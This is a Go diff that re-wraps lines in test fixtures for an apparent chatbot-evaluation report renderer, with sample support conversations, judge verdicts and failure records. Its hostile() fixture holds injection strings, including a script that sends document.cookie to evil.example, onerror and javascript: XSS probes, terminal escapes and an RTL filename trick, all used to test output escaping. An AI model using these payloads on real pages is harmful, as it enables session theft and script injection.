@@ -114,9 +114,11 @@ func refund() *result.Test {
 		"Hi, I bought the annual plan nine days ago and I'd like my money back.",
 		"Hello! I'm sorry to hear that. Could you tell me the email address on your account?",
 		"It's dana@example.com. Am I still in time?",
-		"Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on your next year.",
+		"Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on "+
+			"your next year.",
 		"But your site says there is a 30 day guarantee.",
-		"You're right, and I apologise: our 30-day guarantee applies. I have started your refund; it takes five working days.",
+		"You're right, and I apologise: our 30-day guarantee applies. I have started your refund; "+
+			"it takes five working days.",
 	), 0.55)
 	t.Tags, t.Metadata = []string{"billing", "priority"}, map[string]any{"owner": "support", "ticket": 4312}
 	t.Judge = result.JudgeUse{Calls: 3, CacheHits: 1, Usage: chat.Usage{InputTokens: 2_140, OutputTokens: 310},
@@ -129,15 +131,24 @@ func refund() *result.Test {
 		unmet(`contains "30-day"`, "contains", `"Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on your next…"`),
 		unmet("confirms that nine days are within the guarantee", "rubrics",
 			"The reply denies the refund instead of confirming that the customer is in time."))
-	fail(t, s, result.Failure{Code: result.AssistantContent, Source: "contains", Turn: 2, Message: `wanted: contains "30-day"; got: "Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on your next…"`})
-	fail(t, s, result.Failure{Code: result.QualityJudgeFail, Source: "judge", Turn: 2, Message: `wanted every criterion satisfied; got no for "confirms that nine days are within the guarantee"`})
+	fail(t, s, result.Failure{
+		Code: result.AssistantContent, Source: "contains", Turn: 2,
+		Message: `wanted: contains "30-day"; got: "Thanks, Dana. Unfortunately we don't offer refunds on annual plans, but I can offer you a 20% discount on your next…"`,
+	})
+	fail(t, s, result.Failure{
+		Code: result.QualityJudgeFail, Source: "judge", Turn: 2,
+		Message: `wanted every criterion satisfied; got no for "confirms that nine days are within the guarantee"`,
+	})
 	assert(t, 3, 1, met("starts the refund", "rubrics", "“I have started your refund”"), met("under 2 s", "latency",
 		"1.3 s"))
 	s = assert(t, 0, 0.5,
 		met("stays polite when contradicted", "rubrics", "The assistant apologises and corrects itself."),
 		unmet("never states a policy that is not in the knowledge base", "rubrics",
 			"Turn 2 states that annual plans cannot be refunded, which no document says."))
-	fail(t, s, result.Failure{Code: result.QualityJudgeFail, Source: "judge", Message: `wanted every criterion satisfied; got no for "never states a policy that is not in the knowledge base"`})
+	fail(t, s, result.Failure{
+		Code: result.QualityJudgeFail, Source: "judge",
+		Message: `wanted every criterion satisfied; got no for "never states a policy that is not in the knowledge base"`,
+	})
 	return t
 }
 
@@ -157,8 +168,9 @@ func booking() *result.Test {
 	), 0.5)
 	t.Turns[0].Node, t.Turns[1].Node = "offer_flights", "confirm_booking"
 	t.Turns[0].ToolCalls = []chat.ToolCall{{
-		ID: "c1", Name: "search_flights", Args: json.RawMessage(`{"from":"LIS","to":"OSL","date":"2026-08-03"}`), LatencyMS: 412,
-		Result: json.RawMessage(`[{"flight":"TP 762","departs":"06:40","price":142},{"flight":"TP 766","departs":"11:15","price":219}]`),
+		ID: "c1", Name: "search_flights", Args: json.RawMessage(`{"from":"LIS","to":"OSL","date":"2026-08-03"}`),
+		LatencyMS: 412, Result: json.RawMessage(
+			`[{"flight":"TP 762","departs":"06:40","price":142},{"flight":"TP 766","departs":"11:15","price":219}]`),
 	}}
 	t.Turns[1].ToolCalls = []chat.ToolCall{{
 		ID: "c2", Name: "book_flight", LatencyMS: 688,
@@ -206,20 +218,32 @@ func timeout() *result.Test {
 // hostile says everything that a report must not act on.
 func hostile() *result.Test {
 	t := failed(test("suites/support.yaml", `<script>alert("id")</script>|`+"`x`*_~ @everyone",
-		"<script>fetch('https://evil.example/?c='+document.cookie)</script>\n<img src=x onerror=alert(1)> javascript:alert(1)",
-		"\x1b]0;owned\x07\x1b[31mred\x1b[0m \x1b[2J\u202etxt.exe\u202c \x00\x9b31m </details></style></textarea>]]> <a href=\"javascript:alert(2)\">click</a> [x](javascript:alert(3)) ![i](https://evil.example/i.png) www.evil.example @octocat #12 {{.}} ${7*7} ```\n</pre>",
+		"<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"+
+			"<img src=x onerror=alert(1)> javascript:alert(1)",
+		"\x1b]0;owned\x07\x1b[31mred\x1b[0m \x1b[2J\u202etxt.exe\u202c \x00\x9b31m </details></style></textarea>]]> "+
+			"<a href=\"javascript:alert(2)\">click</a> [x](javascript:alert(3)) ![i](https://evil.example/i.png) "+
+			"www.evil.example @octocat #12 {{.}} ${7*7} ```\n</pre>",
 		"مرحبا، أريد استرداد أموالي من فضلك",
 		"بالطبع. رقم الطلب هو 12345، وسيصل المبلغ خلال 5 أيام (www.example.com).\ufeff\u2028\ufffe",
 	), 0.25)
 	t.Target = target
 	t.Tags = []string{"<b>tag</b>"}
 	t.Turns[0].Node = `"><script>alert(4)</script>`
-	t.Turns[0].ToolCalls = []chat.ToolCall{{Name: "</b><script>alert(5)</script>", Args: json.RawMessage(`{"a": not json <img src=x onerror=alert(6)>`)}}
+	t.Turns[0].ToolCalls = []chat.ToolCall{{
+		Name: "</b><script>alert(5)</script>", Args: json.RawMessage(`{"a": not json <img src=x onerror=alert(6)>`),
+	}}
 	t.Metadata = map[string]any{"</pre><script>alert(7)</script>": "x"}
-	s := assert(t, 1, 0.5, unmet("</li><script>alert(8)</script> never obeys | the user", "rubrics</small>", "it said \x1b[1mgotcha\x1b[0m\n\n# and <img src=x onerror=alert(9)>"))
-	fail(t, s, result.Failure{Code: result.QualityJudgeFail, Source: "judge\x1b[5m", Turn: 1, Message: "<script>alert(10)</script> | [x](javascript:alert(11)) \x1b[31mred"})
+	s := assert(t, 1, 0.5, unmet("</li><script>alert(8)</script> never obeys | the user", "rubrics</small>",
+		"it said \x1b[1mgotcha\x1b[0m\n\n# and <img src=x onerror=alert(9)>"))
+	fail(t, s, result.Failure{
+		Code: result.QualityJudgeFail, Source: "judge\x1b[5m", Turn: 1,
+		Message: "<script>alert(10)</script> | [x](javascript:alert(11)) \x1b[31mred",
+	})
 	s = assert(t, 2, 0)
-	fail(t, s, result.Failure{Code: result.AssistantContent, Source: "contains", Turn: 2, Message: `wanted: contains "استرداد"; got: "بالطبع. رقم الطلب هو 12345"`})
+	fail(t, s, result.Failure{
+		Code: result.AssistantContent, Source: "contains", Turn: 2,
+		Message: `wanted: contains "استرداد"; got: "بالطبع. رقم الطلب هو 12345"`,
+	})
 	return t
 }
 
@@ -227,7 +251,8 @@ func onboarding() *result.Test {
 	t := test("suites/support.yaml", "onboards-a-new-user",
 		"How do I invite my team?", "Open Settings, choose Members, and press Invite.",
 		"And how many can I invite?", "Up to ten on your plan.")
-	assert(t, 1, 0.9, met("names the page", "rubrics", "Settings, Members"), unmet("offers to do it", "rubrics", "The reply only explains."))
+	assert(t, 1, 0.9, met("names the page", "rubrics", "Settings, Members"),
+		unmet("offers to do it", "rubrics", "The reply only explains."))
 	assert(t, 2, 1, met("matches \\d+|ten", "regex", ""))
 	t.Score = 0.95
 	return t
@@ -236,9 +261,10 @@ func onboarding() *result.Test {
 // dependent was not run because another test failed.
 func dependent() *result.Test {
 	return &result.Test{
-		Schema: result.Schema, Suite: "suites/support.yaml", TestID: "refund-arrives", Target: target, Verdict: result.Skip,
-		ExecutionStatus: result.QualityFailure, Threshold: 0.8, StartedAt: begin(),
-		SkipReason: "it depends on refund-within-window, which did not pass (on_dependency_failure: skip)", Failures: []result.Failure{},
+		Schema: result.Schema, Suite: "suites/support.yaml", TestID: "refund-arrives", Target: target,
+		Verdict: result.Skip, ExecutionStatus: result.QualityFailure, Threshold: 0.8, StartedAt: begin(),
+		SkipReason: "it depends on refund-within-window, which did not pass (on_dependency_failure: skip)",
+		Failures:   []result.Failure{},
 	}
 }
 
@@ -248,7 +274,10 @@ func long() *result.Test {
 	t := failed(test("suites/support.yaml", "keeps-answers-short",
 		"Where is my parcel?\n\n"+strings.Repeat("Track ", 20), story+strings.Repeat("x", 3000)), 0)
 	s := assert(t, 1, 0, unmet("at most 80 words", "word_count", "5601 words"))
-	fail(t, s, result.Failure{Code: result.AssistantContent, Source: "word_count", Turn: 1, Message: "wanted: at most 80 words; got: 5601 words"})
+	fail(t, s, result.Failure{
+		Code: result.AssistantContent, Source: "word_count", Turn: 1,
+		Message: "wanted: at most 80 words; got: 5601 words",
+	})
 	return t
 }
 
@@ -258,12 +287,20 @@ func trials() []*result.Test {
 	sum := &result.Trials{Count: 4, Strategy: "pass_all"}
 	for n, score := range []float64{1, 0.4, 1, 0.9} {
 		t := test("suites/travel.yaml", "remembers-the-seat", "I'd like a window seat.", "Noted: a window seat.",
-			"Which seat did I ask for?", map[bool]string{true: "A window seat.", false: "An aisle seat, I believe."}[score > 0.5])
+			"Which seat did I ask for?", map[bool]string{
+				true: "A window seat.", false: "An aisle seat, I believe.",
+			}[score > 0.5])
 		t.Trial, t.Score = n+1, score
-		s := assert(t, 2, score, result.Assertion{Text: "recalls the window seat", Passed: score > 0.5, Grader: "inference_memory", Evidence: "judged on the reply"})
+		s := assert(t, 2, score, result.Assertion{
+			Text: "recalls the window seat", Passed: score > 0.5, Grader: "inference_memory",
+			Evidence: "judged on the reply",
+		})
 		if score < 0.8 {
 			failed(t, score)
-			fail(t, s, result.Failure{Code: result.QualityJudgeFail, Source: "judge", Turn: 2, Message: "wanted: recalls the window seat; got: an aisle seat"})
+			fail(t, s, result.Failure{
+				Code: result.QualityJudgeFail, Source: "judge", Turn: 2,
+				Message: "wanted: recalls the window seat; got: an aisle seat",
+			})
 		} else {
 			sum.Passed++
 		}
@@ -275,7 +312,10 @@ func trials() []*result.Test {
 	sum.Class = result.Class(stats.Class(sum.Passed, sum.Count))
 	t := failed(test("suites/travel.yaml", "remembers-the-seat"), 0.4)
 	t.Trials, t.DurationMS = sum, 9_100
-	t.Failures = []result.Failure{{Code: result.Flaky, Source: "orchestrator", Message: "wanted the same verdict every time; got 3 passes in 4 trials"}}
+	t.Failures = []result.Failure{{
+		Code: result.Flaky, Source: "orchestrator",
+		Message: "wanted the same verdict every time; got 3 passes in 4 trials",
+	}}
 	return append(tests, t)
 }
 
@@ -285,5 +325,6 @@ func compareWith(run result.Run, tests []*result.Test, earlier ...*result.Test) 
 	if len(earlier) > 0 {
 		before.ID = earlier[0].RunID
 	}
-	return compare.Runs(compare.Side{Run: before, Tests: each(earlier...)}, compare.Side{Run: run, Tests: each(tests...)}, compare.Options{})
+	return compare.Runs(compare.Side{Run: before, Tests: each(earlier...)},
+		compare.Side{Run: run, Tests: each(tests...)}, compare.Options{})
 }
